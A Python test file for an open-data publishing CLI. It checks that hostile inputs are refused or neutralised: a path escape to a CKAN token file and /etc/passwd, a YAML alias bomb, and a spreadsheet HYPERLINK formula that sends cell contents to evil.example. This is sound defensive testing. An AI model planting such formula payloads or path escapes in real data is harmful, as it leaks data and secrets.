"""Every probe of the adversarial review (issue 10) kept as a test.

Each case asserts the exit code, the sentence a person reads, and that nothing outside the
place the command may write changed: the dataset folders, the published catalog and the
archive are fingerprinted before and compared after.
"""

from __future__ import annotations

import hashlib
import http.server
import io
import json
import os
import re
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook
from typer.testing import CliRunner

from opendata.cli import app
from opendata.errors import PublishError, TransientPublishError
from publish.ckan.client import CkanClient
from tests.source_fakes import silent_server

runner = CliRunner()
ENV = {"COLUMNS": "400"}
STRATEGI = "datasets/strategi-uppfoljning"
# validate of a source it reads: the report, the raw bytes archived, and frictionless's verdict on the
# schema (build/.cache/schemas, opendata.table_schema)
READS = ("build/reports", "archive", "build/.cache")


def tree(root: Path, *skip: str) -> dict[str, str]:
    """Every file under ``root`` (links followed) -> its SHA-256, but the ``skip`` prefixes."""
    found: dict[str, str] = {}
    for dirpath, _dirs, files in os.walk(root, followlinks=True):
        for name in files:
            path = Path(dirpath) / name
            rel = str(path.relative_to(root))
            if name == ".lock" or any(rel.startswith(s) for s in skip):
                continue
            found[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def run(project: Path, *args: str, may_write: tuple[str, ...] = ("build/reports", "build/.cache")) -> tuple[int, str]:
    """The command's exit code and output; fails if it changed anything outside ``may_write``."""
    before = tree(project, *may_write)
    result = runner.invoke(app, list(args), env=ENV)
    assert tree(project, *may_write) == before, "the command changed files outside " + ", ".join(may_write)
    return result.exit_code, result.output


def edit_manifest(project: Path, slug: str, **changes: object) -> None:
    path = project / "datasets" / slug / "dataset.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    for dotted, value in changes.items():
        *parents, last = dotted.split("__")
        node = data
        for key in parents:
            node = node.setdefault(key, {})
        node[last] = value
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")


def strategi_source(project: Path) -> Path:
    return next((project / STRATEGI / "source").glob("*.csv"))


# --- validate: refusals write nothing; a report goes to build/reports/<slug> only ---------------


def test_path_escape_to_a_secret_is_refused(project: Path) -> None:
    secret = project / ".ckan/env"
    secret.parent.mkdir()
    secret.write_text("CKAN_API_TOKEN=very-secret\n", encoding="utf-8")
    edit_manifest(project, "strategi-uppfoljning", source__path="../../.ckan/env", source__delimiter="=")
    code, out = run(project, "validate", "strategi-uppfoljning")
    assert code == 2
    assert "'source.path': '../../.ckan/env' lies outside the dataset folder strategi-uppfoljning/" in out
    assert "OPENDATA_ALLOWED_ROOTS" in out and "very-secret" not in out and "Traceback" not in out
    assert not (project / "build").exists() and not (project / "archive").exists()


def test_absolute_path_and_symlink_out_are_refused_unless_an_allowed_root(
    project: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    edit_manifest(project, "strategi-uppfoljning", source__path="/etc/passwd")
    code, out = run(project, "validate", "strategi-uppfoljning")
    assert code == 2 and "'/etc/passwd' lies outside the dataset folder" in out
    shared = tmp_path / "shared-drive"
    shared.mkdir()
    shutil.copy(strategi_source(project), shared / "export.csv")
    link = project / STRATEGI / "source/link.csv"
    link.symlink_to(shared / "export.csv")
    edit_manifest(project, "strategi-uppfoljning", source__path="source/link.csv")
    code, out = run(project, "validate", "strategi-uppfoljning")
    assert code == 2 and "'source/link.csv' lies outside the dataset folder" in out and "symlinks" in out
    monkeypatch.setenv("OPENDATA_ALLOWED_ROOTS", str(shared))
    code, out = run(project, "validate", "strategi-uppfoljning", may_write=READS)
    assert code == 0 and "valid: strategi-uppfoljning, 37 rows" in out


def test_an_absolute_slug_is_refused_and_the_dataset_folder_stays(project: Path) -> None:
    folder = project / STRATEGI
    before = tree(folder)
    for command in ("publish", "validate"):
        code, out = run(project, command, str(folder))
        assert code == 2, out
        assert f"'{folder}' is not a dataset slug" in out and "not a path" in out and "Traceback" not in out
    assert tree(folder) == before
    assert not (project / "build").exists()


def test_a_build_folder_inside_the_datasets_is_refused(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = tree(project / "datasets")
    monkeypatch.setenv("OPENDATA_BUILD", str(project / STRATEGI))
    code, out = run(project, "validate", "strategi-uppfoljning")
    assert code == 2 and "inside the datasets folder" in out and "OPENDATA_BUILD" in out
    assert tree(project / "datasets") == before


def test_yaml_alias_bomb_is_refused_without_expanding(project: Path) -> None:
    path = project / STRATEGI / "dataset.yaml"
    original = path.read_text(encoding="utf-8")
    bomb = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    for n in range(ord("b"), ord("j")):
        prev = chr(n - 1)
        bomb += f"{chr(n)}: &{chr(n)} [{', '.join(['*' + prev] * 9)}]\n"
    path.write_text(original.replace("themes:", bomb + "themes: *i\nx_themes:", 1), encoding="utf-8")
    code, out = run(project, "validate", "strategi-uppfoljning")
    assert code == 2 and "uses a YAML alias (*name); aliases are not allowed" in out
    assert out.count("lol") < 20 and len(out) < 2000 and "Traceback" not in out


def test_an_impossible_manifest_date_names_the_file_and_key(project: Path) -> None:
    path = project / "datasets/bredband/dataset.yaml"
    original = path.read_text(encoding="utf-8")
    path.write_text(original.replace("start: 2016-10-01", "start: 2023-02-30"), encoding="utf-8")
    code, out = run(project, "validate", "bredband")
    assert code == 2 and "Traceback" not in out
    assert "datasets/bredband/dataset.yaml: 'temporal.start'" in out and "2023-02-30" in out


def test_markup_in_messages_and_cells_is_printed_as_text(project: Path) -> None:
    path = project / "publishers/ornskoldsvik.yaml"
    original = path.read_text(encoding="utf-8")
    path.write_text(original.replace("organization: ", "organization: Ö_", 1), encoding="utf-8")
    code, out = run(project, "validate", "bredband")
    assert code == 2 and "[a-z0-9]" in out  # the slug pattern, not eaten as markup
    path.write_text(original, encoding="utf-8")
    source = strategi_source(project)
    original_csv = source.read_bytes()
    source.write_bytes(original_csv.replace(b"ej bed\xc3\xb6md", b"[/red]", 1))
    code, out = run(project, "validate", "strategi-uppfoljning", may_write=READS)
    assert code == 1 and "[/red]" in out and "MarkupError" not in out and "Traceback" not in out


def test_excel_blank_row_inside_the_data_is_an_error_with_its_row(project: Path) -> None:
    """A sheet read whole (no ``where``): a blank row inside it is an error (a long sheet filtered
    by ``where`` drops it, as it is no row of the municipality's)."""
    path = project / "datasets/bredband/source/pts-tabellbilaga-hastighet-exempel.xlsx"
    original = path.read_bytes()
    book = load_workbook(io.BytesIO(original))
    for cell in book["Hastighet kommun hushåll"][15]:
        cell.value = None
    book.save(path)
    manifest = project / "datasets/bredband/dataset.yaml"
    text = manifest.read_text(encoding="utf-8")
    manifest.write_text(re.sub(r"\n  where:\n    Kommunnamn: [^\n]*", "", text, count=1), encoding="utf-8")
    code, out = run(project, "validate", "bredband", may_write=READS)
    assert code == 1 and "Traceback" not in out
    assert "row 15 is empty inside the data" in out and "footer_rows" in out


def test_workbook_that_unpacks_beyond_the_limit_is_refused_before_reading(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENDATA_MAX_XLSX_BYTES", "20000")  # the bundled workbook unpacks to more
    code, out = run(project, "validate", "bredband", may_write=READS)
    assert code == 2 and "the workbook unpacks to" in out and "OPENDATA_MAX_XLSX_BYTES" in out
    assert "MemoryError" not in out and "Traceback" not in out


def test_a_10_mb_cell_gets_a_sentence_with_line_column_and_limit(project: Path) -> None:
    source = strategi_source(project)
    original = source.read_bytes()
    lines = original.split(b"\n")
    cells = lines[2].split(b",")
    cells[-1] = b"x" * (10 * 1024 * 1024)
    lines[2] = b",".join(cells)
    source.write_bytes(b"\n".join(lines))
    code, out = run(project, "validate", "strategi-uppfoljning", may_write=READS)
    assert code == 2 and "Traceback" not in out and "straddl" not in out
    assert "line 3, column" in out and "OPENDATA_MAX_CELL_BYTES" in out


def test_nan_and_infinity_are_refused_in_a_number_field(project: Path) -> None:
    path = project / "datasets/bredband/source/pts-tabellbilaga-hastighet-exempel.xlsx"
    original = path.read_bytes()
    book = load_workbook(io.BytesIO(original))
    book["Hastighet kommun hushåll"]["H20"] = "NaN"  # Örnsköldsvik 2016, total: ≥100 Mbit/s
    book["Hastighet kommun hushåll"]["I20"] = "-Infinity"
    book.save(path)
    code, out = run(project, "validate", "bredband", may_write=READS)
    assert code == 1 and "NaN and infinities are not allowed" in out and '"nonFinite": true' in out
    assert "-Infinity" in out


# --- publish (local catalog, under the Prefect test server) --------------------------------------

PUBLISH_WRITES = (".prefect", "build", "archive")  # the catalog, the work folder, the raw archive


def cli(project: Path, *args: str, may_write: tuple[str, ...] = PUBLISH_WRITES) -> tuple[int, str]:
    """The real command in its own process (as a person runs it), on the test's Prefect server."""
    from prefect.settings import get_current_settings

    env = {
        **os.environ,
        **ENV,
        "PREFECT_API_URL": str(get_current_settings().api.url),
        "OPENDATA_HOME": str(project),
    }
    before = tree(project, *may_write)
    done = subprocess.run(
        [sys.executable, "-m", "opendata", *args], env=env, capture_output=True, text=True, timeout=300, check=False
    )
    assert tree(project, *may_write) == before, "the command changed files outside " + ", ".join(may_write)
    return done.returncode, done.stdout + done.stderr


def catalog_of(project: Path) -> dict[str, str]:
    return tree(project / "build/catalog") if (project / "build/catalog").exists() else {}


@pytest.mark.usefixtures("prefect_harness")
def test_header_only_export_is_refused_with_both_counts_and_the_fix(project: Path) -> None:
    code, out = cli(project, "publish", "strategi-uppfoljning", "--target", "local")
    assert code == 0, out
    published = catalog_of(project)
    source = strategi_source(project)
    source.write_bytes(source.read_bytes().split(b"\n", 1)[0] + b"\n")
    code, out = cli(project, "publish", "strategi-uppfoljning", "--target", "local")
    assert code == 1
    flat = " ".join(out.split())
    assert "the new version has 0 rows (the published version has 37)" in flat
    assert "--allow-shrink" in flat and "expect.min_rows" in flat
    assert "Traceback" not in out, out  # the sentence, not Prefect's traceback (that needs -v)
    assert catalog_of(project) == published
    code, out = cli(project, "publish", "strategi-uppfoljning", "--target", "local", "--allow-shrink")
    assert code == 0, out
    assert b"\n" not in (project / "build/catalog/strategi-uppfoljning/data.csv").read_bytes().strip()


@pytest.mark.usefixtures("prefect_harness")
def test_a_large_drop_is_refused_unless_the_manifest_allows_it(project: Path) -> None:
    assert cli(project, "publish", "strategi-uppfoljning", "--target", "local")[0] == 0
    published = catalog_of(project)
    source = strategi_source(project)
    source.write_bytes(b"\n".join(source.read_bytes().split(b"\n")[:11]) + b"\n")  # 10 of 37 rows
    code, out = cli(project, "publish", "strategi-uppfoljning", "--target", "local")
    flat = " ".join(out.split())
    assert code == 1 and "has 10 rows where 37 are published, a drop of 73% (expect.max_drop allows 20%)" in flat
    assert catalog_of(project) == published
    edit_manifest(project, "strategi-uppfoljning", expect={"max_drop": 0.8})
    code, out = cli(project, "publish", "strategi-uppfoljning", "--target", "local")
    assert code == 0, out


@pytest.mark.usefixtures("prefect_harness")
def test_formulas_are_neutralised_by_default_and_refused_on_request(project: Path) -> None:
    source = strategi_source(project)
    text = source.read_bytes()
    formula = b'"=HYPERLINK(""http://evil.example/?""&A1;""Klicka"")"'
    source.write_bytes(re.sub(rb"ej bed\xc3\xb6md,(?=\r?\n)", b"ej bed\xc3\xb6md," + formula, text, count=1))
    code, out = run(project, "validate", "strategi-uppfoljning", may_write=READS)
    assert code == 0 and "warning" in out and "starts like a spreadsheet formula" in out
    code, out = cli(project, "publish", "strategi-uppfoljning", "--target", "local")
    assert code == 0, out
    csv = (project / "build/catalog/strategi-uppfoljning/data.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in csv and ",=HYPERLINK(" not in csv and '"=HYPERLINK(' not in csv
    published = catalog_of(project)
    edit_manifest(project, "strategi-uppfoljning", formulas="refuse")
    code, out = cli(project, "publish", "strategi-uppfoljning", "--target", "local")
    assert code == 1 and "formula" in out and "Traceback" not in out
    assert catalog_of(project) == published


@pytest.mark.usefixtures("prefect_harness")
def test_dry_run_writes_nothing_in_the_project(project: Path) -> None:
    code, out = cli(project, "publish", "--all", "--target", "local", "--dry-run", may_write=())
    assert code == 0, out
    assert not (project / "build").exists() and not (project / "archive").exists()


# --- the CKAN client against a misbehaving portal (a fake server: fault injection only) ----------


class Portal:
    """A fake portal answering each POST with the next (status, headers, body) of ``answers``."""

    def __init__(self, answers: list[tuple[int, dict[str, str], bytes]]) -> None:
        self.answers = answers
        self.calls = 0

    def __enter__(self) -> str:
        portal = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                status, headers, body = portal.answers[min(portal.calls, len(portal.answers) - 1)]
                portal.calls += 1
                self.send_response(status)
                for key, value in headers.items():
                    self.send_header(key, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


JSON = {"Content-Type": "application/json;charset=utf-8"}
OK = (200, JSON, json.dumps({"success": True, "result": {"name": "admin"}}).encode())
BUSY = json.dumps({"success": False, "error": {"message": "busy"}}).encode()


def test_retry_after_is_waited_out_up_to_a_cap() -> None:
    slept: list[float] = []
    with Portal([(429, {**JSON, "Retry-After": "60"}, BUSY), OK]) as url:
        client = CkanClient(url, "token-xyz", sleep=slept.append)
        assert client.call("user_show") == {"name": "admin"}
    assert slept == [60.0]  # as the portal asked, not the task's own 5 s / 30 s
    with Portal([(503, {**JSON, "Retry-After": "3600"}, BUSY), OK]) as url:
        client = CkanClient(url, "token-xyz", sleep=slept.append)
        with pytest.raises(TransientPublishError, match=r"asked to wait 3600 s before user_show \(Retry-After\)"):
            client.call("user_show")
    assert slept == [60.0]  # an hour is not waited


def test_a_portal_that_never_answers_is_bounded_by_timeouts_and_a_deadline() -> None:
    now = [0.0]
    with silent_server() as url:
        client = CkanClient(url, "token-xyz", timeout=(1, 1), deadline=600, clock=lambda: now[0])
        with pytest.raises(TransientPublishError, match=r"did not answer package_show within 1 s \(ReadTimeout\)"):
            client.call("package_show", id="x")
        now[0] = 601.0  # the dataset's time is up: the next call fails at once, not retried
        with pytest.raises(PublishError, match=r"not done within the deadline of 600 s .*OPENDATA_CKAN_DEADLINE") as e:
            client.call("package_show", id="x")
        assert not isinstance(e.value, TransientPublishError)


def test_an_html_page_is_not_a_ckan_api_answer() -> None:
    page = b"<!doctype html><html><body><form>Logga in</form></body></html>"
    with Portal([(200, {"Content-Type": "text/html; charset=utf-8"}, page)]) as url:
        client = CkanClient(url, "token-xyz")
        with pytest.raises(PublishError) as caught:
            client.call("package_show", id="x")
    message = str(caught.value)
    assert "the answer to package_show is not a CKAN API answer (HTTP 200, text/html)" in message
    assert "check that CKAN_URL" in message and "token-xyz" not in message
    assert not isinstance(caught.value, TransientPublishError)


def test_utf16_declared_windows_1252_is_named_not_a_ragged_row(project: Path) -> None:
    source = project / "datasets/skolor-wifi/source/wifi-inventering.csv"
    source.write_bytes(source.read_bytes().decode("cp1252").encode("utf-16"))
    code, out = run(project, "validate", "skolor-wifi", may_write=READS)
    assert code == 2 and "looks like UTF-16" in out and "encoding: windows-1252" in out
    assert "do not have" not in out and "Traceback" not in out
